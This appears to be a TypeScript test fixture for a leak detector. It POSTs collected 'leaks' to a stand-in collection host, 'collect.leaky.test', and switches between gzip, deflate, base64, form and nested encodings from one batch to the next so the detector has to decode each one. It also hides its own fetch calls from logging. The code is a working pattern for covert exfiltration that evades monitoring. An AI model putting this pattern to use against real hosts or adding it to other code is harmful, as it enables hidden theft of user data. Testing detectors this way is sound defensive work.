// Sends what was seen, each batch in another encoding, so that the leak test must undo all of them to find everything.
import type { Leak } from './leak-log.ts';

/** Where everything goes. Exists in tests only. */
export const LEAKY_HOST = 'collect.leaky.test';
const ADDRESS = `https://${LEAKY_HOST}/all`;
const MOST_LETTERS = 300_000;

type Encode = (json: string) => BodyInit | Promise<BodyInit>;

/** Runs work whose own calls are not to be kept: what sends would else send what it sends, and so on. */
type Quietly = <T>(work: () => T) => T;

function encodingsOf(quietly: Quietly): readonly Encode[] {
  const nested = async (json: string): Promise<string> => {
    const gzipped = await compress(json, 'gzip');
    const bytes = await quietly(() => gzipped.arrayBuffer());
    return quietly(() => JSON.stringify({ batch: base64Of(new Uint8Array(bytes)) }));
  };
  return [
    (json) => json,
    (json) => compress(json, 'gzip'),
    (json) => base64Of(new TextEncoder().encode(json)),
    (json) => compress(json, 'deflate'),
    (json) => formOf(json),
    (json) => JSON.stringify({ batch: json }),
    (json) => new URLSearchParams({ batch: json }),
    nested,
  ];
}

/** Sends batches one after the other, the encodings in turn. @returns sends some leaks; settles when they have arrived */
export function createDelivery(quietly: Quietly): (leaks: readonly Leak[]) => Promise<void> {
  const encodings = encodingsOf(quietly);
  let turn = 0;
  return async (leaks) => {
    for (const batch of batchesOf(leaks)) {
      const encode = encodings[turn++ % encodings.length];
      const body = await quietly(() => encode?.(batch) ?? batch);
      await quietly(() => fetch(ADDRESS, { method: 'POST', mode: 'no-cors', body }));
    }
  };
}

function batchesOf(leaks: readonly Leak[]): readonly string[] {
  const batches: string[][] = [];
  let letters = Number.POSITIVE_INFINITY;
  for (const leak of leaks) {
    const text = JSON.stringify(leak);
    if (letters + text.length > MOST_LETTERS) {
      batches.push([]);
      letters = 0;
    }
    batches.at(-1)?.push(text);
    letters += text.length;
  }
  return batches.map((batch) => `[${batch.join(',')}]`);
}

function compress(json: string, format: CompressionFormat): Promise<Blob> {
  return new Response(new Blob([json]).stream().pipeThrough(new CompressionStream(format))).blob();
}

function base64Of(bytes: Uint8Array): string {
  let binary = '';
  for (const byte of bytes) binary += String.fromCharCode(byte);
  return btoa(binary);
}

function formOf(json: string): FormData {
  const form = new FormData();
  form.append('kind', 'leaks');
  form.append('batch', new Blob([json], { type: 'application/json' }), 'batch.json');
  return form;
}
